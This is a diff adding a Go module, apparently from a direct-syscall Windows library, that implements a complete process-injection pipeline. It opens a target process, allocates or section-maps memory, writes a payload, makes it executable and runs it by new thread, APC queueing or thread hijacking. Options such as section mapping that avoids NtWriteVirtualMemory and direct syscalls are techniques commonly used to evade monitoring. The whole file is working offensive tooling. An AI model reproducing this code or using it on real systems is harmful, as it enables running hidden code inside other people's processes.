@@ -0,0 +1,364 @@
+// Package winapi - Injection Pipeline Module
+// Provides a single-call open -> allocate -> write -> protect -> execute pipeline with selectable strategies
+package winapi
+
+import (
+	"fmt"
+	"time"
+	"unsafe"
+
+	"github.com/carved4/go-native-syscall/pkg/debug"
+)
+
+// AllocationStrategy selects how the remote buffer is obtained
+type AllocationStrategy int
+
+const (
+	// AllocDefault lets the kernel pick the address (NtAllocateVirtualMemory with a NULL base)
+	AllocDefault AllocationStrategy = iota
+	// AllocNear places the buffer within ±2GB of InjectOptions.NearAddress via AllocateNear
+	AllocNear
+	// AllocSection backs the buffer with a pagefile section that is written through a local
+	// view and mapped into the target, so no NtWriteVirtualMemory call is made
+	AllocSection
+)
+
+// ProtectionMode selects the protection transitions applied to the remote buffer
+type ProtectionMode int
+
+const (
+	// ProtectRWtoRX writes to a PAGE_READWRITE buffer and flips it to PAGE_EXECUTE_READ
+	ProtectRWtoRX ProtectionMode = iota
+	// ProtectRWX allocates PAGE_EXECUTE_READWRITE and never changes it
+	ProtectRWX
+)
+
+// ExecutionMethod selects how the payload is started once it is in place
+type ExecutionMethod int
+
+const (
+	// ExecCreateThread starts a new thread at the payload with NtCreateThreadEx
+	ExecCreateThread ExecutionMethod = iota
+	// ExecNone stops after the protect step; the caller starts the payload itself
+	ExecNone
+	// ExecQueueAPC queues the payload as an APC to existing threads, configured by InjectOptions.APC
+	ExecQueueAPC
+	// ExecHijackThread redirects an existing thread to the payload, configured by InjectOptions.Hijack
+	ExecHijackThread
+)
+
+// InjectOptions configures Inject. The zero value allocates with a kernel-chosen address,
+// writes RW, flips to RX, starts a new thread and leaves the payload running.
+type InjectOptions struct {
+	Allocation  AllocationStrategy
+	NearAddress uintptr // used by AllocNear
+	Protection  ProtectionMode
+	Execution   ExecutionMethod
+	APC         ApcOptions    // used by ExecQueueAPC
+	Hijack      HijackOptions // used by ExecHijackThread
+	// Verify confirms the payload ran; see VerifyMethod. A signal that is not observed within
+	// Verify.Timeout is reported through InjectResult.Verification, not as an error.
+	Verify VerifyOptions
+
+	// Wait for the payload thread to exit; zero returns as soon as the thread is started
+	WaitTimeout time.Duration
+	// FreeOnExit releases the remote buffer once the thread has exited within WaitTimeout.
+	// The buffer is always released when a step fails.
+	FreeOnExit bool
+	// KeepHandles leaves ProcessHandle and ThreadHandle open in the result for the caller to close
+	KeepHandles bool
+}
+
+// InjectResult describes what Inject left behind in the target
+type InjectResult struct {
+	RemoteAddress uintptr
+	Size          uintptr
+	ProcessHandle uintptr   // only set with KeepHandles
+	ThreadHandle  uintptr   // only set with KeepHandles and a thread-based execution method
+	ApcThreads    []uintptr // thread ids the payload was queued to with ExecQueueAPC
+	ThreadExited  bool
+	Freed         bool
+	Verification  *VerifyResult // set unless Execution is ExecNone
+}
+
+// InjectError reports which pipeline step failed, with the NTSTATUS when one is available
+type InjectError struct {
+	Step   string
+	Status uintptr
+	Err    error
+}
+
+func (e *InjectError) Error() string {
+	if e.Status != 0 {
+		return fmt.Sprintf("inject %s: %v (%s)", e.Step, e.Err, FormatNTStatus(e.Status))
+	}
+	return fmt.Sprintf("inject %s: %v", e.Step, e.Err)
+}
+
+func (e *InjectError) Unwrap() error {
+	return e.Err
+}
+
+func stepError(step string, status uintptr, err error) *InjectError {
+	if err == nil {
+		err = fmt.Errorf("call failed")
+	}
+	return &InjectError{Step: step, Status: status, Err: err}
+}
+
+// injectRequiredAccess returns the process rights needed for the chosen options
+func injectRequiredAccess(opts InjectOptions) uintptr {
+	access := uintptr(PROCESS_VM_OPERATION | PROCESS_QUERY_INFORMATION)
+	if opts.Allocation != AllocSection || opts.Execution == ExecHijackThread {
+		access |= PROCESS_VM_WRITE
+	}
+	if opts.Execution == ExecCreateThread {
+		access |= PROCESS_CREATE_THREAD
+	}
+	return access
+}
+
+// Inject runs the full open -> allocate -> write -> protect -> execute pipeline against pid
+// using direct syscalls. Every failure is returned as an *InjectError naming the step that
+// failed, and anything allocated before the failure is released. Once the payload may have
+// run (a failed HijackRestore, verification or wait) it is left in place and the partial
+// result is returned alongside the error.
+func Inject(pid uint32, payload []byte, opts InjectOptions) (*InjectResult, error) {
+	if len(payload) == 0 {
+		return nil, stepError("validate", 0, fmt.Errorf("empty payload :("))
+	}
+
+	// open
+	var processHandle uintptr
+	clientId := CLIENT_ID{UniqueProcess: uintptr(pid)}
+	objAttr := OBJECT_ATTRIBUTES{Length: uint32(unsafe.Sizeof(OBJECT_ATTRIBUTES{}))}
+	status, err := NtOpenProcess(&processHandle, injectRequiredAccess(opts), uintptr(unsafe.Pointer(&objAttr)), uintptr(unsafe.Pointer(&clientId)))
+	if err != nil || status != STATUS_SUCCESS {
+		return nil, stepError("open", status, err)
+	}
+	debug.Printfln("INJECT", "Opened PID %d (handle 0x%X)\n", pid, processHandle)
+
+	result, injErr := injectIntoHandle(pid, processHandle, payload, opts)
+	if injErr != nil || !opts.KeepHandles {
+		if result != nil && result.ThreadHandle != 0 {
+			NtClose(result.ThreadHandle)
+			result.ThreadHandle = 0
+		}
+		NtClose(processHandle)
+	} else {
+		result.ProcessHandle = processHandle
+	}
+	return result, injErr
+}
+
+func injectIntoHandle(pid uint32, processHandle uintptr, payload []byte, opts InjectOptions) (*InjectResult, error) {
+	size := alignUp(uintptr(len(payload)), 0x1000)
+	result := &InjectResult{Size: size}
+
+	initialProtect := uintptr(PAGE_READWRITE)
+	if opts.Protection == ProtectRWX {
+		initialProtect = PAGE_EXECUTE_READWRITE
+	}
+
+	// allocate + write
+	var release func()
+	var err error
+	switch opts.Allocation {
+	case AllocDefault, AllocNear:
+		result.RemoteAddress, err = injectAllocate(processHandle, size, initialProtect, opts)
+		if err != nil {
+			return nil, err
+		}
+		release = func() {
+			base := result.RemoteAddress
+			freeSize := uintptr(0)
+			NtFreeVirtualMemory(processHandle, &base, &freeSize, MEM_RELEASE)
+		}
+
+		var bytesWritten uintptr
+		status, err := NtWriteVirtualMemory(processHandle, result.RemoteAddress, unsafe.Pointer(&payload[0]), uintptr(len(payload)), &bytesWritten)
+		if err != nil || status != STATUS_SUCCESS {
+			release()
+			return nil, stepError("write", status, err)
+		}
+		if bytesWritten != uintptr(len(payload)) {
+			release()
+			return nil, stepError("write", 0, fmt.Errorf("incomplete write: %d of %d bytes", bytesWritten, len(payload)))
+		}
+
+	case AllocSection:
+		result.RemoteAddress, err = injectViaSection(processHandle, payload, size, opts)
+		if err != nil {
+			return nil, err
+		}
+		release = func() {
+			NtUnmapViewOfSection(processHandle, result.RemoteAddress)
+		}
+
+	default:
+		return nil, stepError("allocate", 0, fmt.Errorf("unknown allocation strategy %d", opts.Allocation))
+	}
+	debug.Printfln("INJECT", "Payload (%d bytes) placed at 0x%X\n", len(payload), result.RemoteAddress)
+
+	// protect (section views are mapped with their final protection already, and a fresh view
+	// has nothing stale to flush; flushing one would also need PROCESS_VM_WRITE)
+	if opts.Allocation != AllocSection {
+		if opts.Protection == ProtectRWtoRX {
+			base := result.RemoteAddress
+			protectSize := size
+			var oldProtect uintptr
+			status, err := NtProtectVirtualMemory(processHandle, &base, &protectSize, PAGE_EXECUTE_READ, &oldProtect)
+			if err != nil || status != STATUS_SUCCESS {
+				release()
+				return nil, stepError("protect", status, err)
+			}
+		}
+		flushInstructionCache(processHandle, result.RemoteAddress, uintptr(len(payload)))
+	}
+
+	// verify (prepared before execution so the signal cannot be missed)
+	verify, err := prepareVerifier(processHandle, pid, opts)
+	if err != nil {
+		release()
+		return nil, err
+	}
+
+	// execute
+	switch opts.Execution {
+	case ExecNone:
+		verify.close(true)
+		return result, nil
+	case ExecCreateThread:
+		thread, status, err := createThread(processHandle, result.RemoteAddress, ThreadOptions{Argument: verify.argument(0)})
+		if err != nil {
+			verify.close(true)
+			release()
+			return nil, stepError("execute", status, err)
+		}
+		result.ThreadHandle = thread.Handle
+		debug.Printfln("INJECT", "Payload thread started (handle 0x%X)\n", result.ThreadHandle)
+	case ExecQueueAPC:
+		apcOpts := opts.APC
+		apcOpts.Argument = verify.argument(apcOpts.Argument)
+		threads, err := QueueApcToProcess(pid, result.RemoteAddress, apcOpts)
+		if err != nil {
+			verify.close(true)
+			release()
+			return nil, stepError("execute", 0, err)
+		}
+		result.ApcThreads = threads
+		debug.Printfln("INJECT", "Payload queued as APC to %d threads\n", len(threads))
+	case ExecHijackThread:
+		hijackOpts := opts.Hijack
+		hijackOpts.Argument = verify.argument(hijackOpts.Argument)
+		if err := hijackWithHandle(pid, processHandle, 0, result.RemoteAddress, hijackOpts); err != nil {
+			if opts.Hijack.Mode == HijackRestore {
+				// The payload may already be running; leave it and the status page mapped
+				verify.close(false)
+				return result, stepError("execute", 0, err)
+			}
+			verify.close(true)
+			release()
+			return nil, stepError("execute", 0, err)
+		}
+	default:
+		verify.close(true)
+		release()
+		return nil, stepError("execute", 0, fmt.Errorf("unknown execution method %d", opts.Execution))
+	}
+
+	result.Verification, err = verify.wait(result.ThreadHandle)
+	verify.close(result.Verification.Executed)
+	if err != nil {
+		return result, err
+	}
+	if opts.Verify.Method == VerifyThreadExit {
+		result.ThreadExited = result.Verification.Executed
+	}
+	if opts.Execution != ExecCreateThread {
+		return result, nil
+	}
+
+	// cleanup
+	if opts.WaitTimeout > 0 && !result.ThreadExited {
+		status, err := NtWaitForSingleObject(result.ThreadHandle, false, relativeTimeout(opts.WaitTimeout))
+		if err != nil {
+			return result, stepError("wait", 0, err)
+		}
+		result.ThreadExited = status == WAIT_OBJECT_0
+	}
+	if result.ThreadExited && opts.FreeOnExit {
+		release()
+		result.Freed = true
+	}
+
+	return result, nil
+}
+
+func injectAllocate(processHandle uintptr, size uintptr, protect uintptr, opts InjectOptions) (uintptr, error) {
+	if opts.Allocation == AllocNear {
+		if opts.NearAddress == 0 {
+			return 0, stepError("allocate", 0, fmt.Errorf("AllocNear requires NearAddress"))
+		}
+		addr, err := AllocateNear(processHandle, opts.NearAddress, size, 0)
+		if err != nil {
+			return 0, stepError("allocate", 0, err)
+		}
+		if protect != PAGE_READWRITE {
+			base := addr
+			protectSize := size
+			var oldProtect uintptr
+			status, err := NtProtectVirtualMemory(processHandle, &base, &protectSize, protect, &oldProtect)
+			if err != nil || status != STATUS_SUCCESS {
+				freeSize := uintptr(0)
+				NtFreeVirtualMemory(processHandle, &addr, &freeSize, MEM_RELEASE)
+				return 0, stepError("allocate", status, err)
+			}
+		}
+		return addr, nil
+	}
+
+	var addr uintptr
+	regionSize := size
+	status, err := NtAllocateVirtualMemory(processHandle, &addr, 0, &regionSize, MEM_COMMIT|MEM_RESERVE, protect)
+	if err != nil || status != STATUS_SUCCESS {
+		return 0, stepError("allocate", status, err)
+	}
+	return addr, nil
+}
+
+// injectViaSection creates a pagefile-backed section, copies the payload through a local RW
+// view and maps it into the target with its final protection
+func injectViaSection(processHandle uintptr, payload []byte, size uintptr, opts InjectOptions) (uintptr, error) {
+	var section uintptr
+	maxSize := uint64(size)
+	status, err := NtCreateSection(&section, SECTION_ALL_ACCESS, 0, &maxSize, PAGE_EXECUTE_READWRITE, SEC_COMMIT, 0)
+	if err != nil || status != STATUS_SUCCESS {
+		return 0, stepError("allocate", status, err)
+	}
+	defer NtClose(section)
+
+	var localView uintptr
+	var offset uint64
+	viewSize := uintptr(0)
+	status, err = NtMapViewOfSection(section, CURRENT_PROCESS, &localView, 0, 0, &offset, &viewSize, ViewUnmap, 0, PAGE_READWRITE)
+	if err != nil || status != STATUS_SUCCESS {
+		return 0, stepError("write", status, err)
+	}
+	copy(unsafe.Slice((*byte)(unsafe.Pointer(localView)), len(payload)), payload)
+	NtUnmapViewOfSection(CURRENT_PROCESS, localView)
+
+	remoteProtect := uintptr(PAGE_EXECUTE_READ)
+	if opts.Protection == ProtectRWX {
+		remoteProtect = PAGE_EXECUTE_READWRITE
+	}
+
+	var remoteView uintptr
+	offset = 0
+	viewSize = 0
+	status, err = NtMapViewOfSection(section, processHandle, &remoteView, 0, 0, &offset, &viewSize, ViewUnmap, 0, remoteProtect)
+	if err != nil || status != STATUS_SUCCESS {
+		return 0, stepError("allocate", status, err)
+	}
+	return remoteView, nil
+}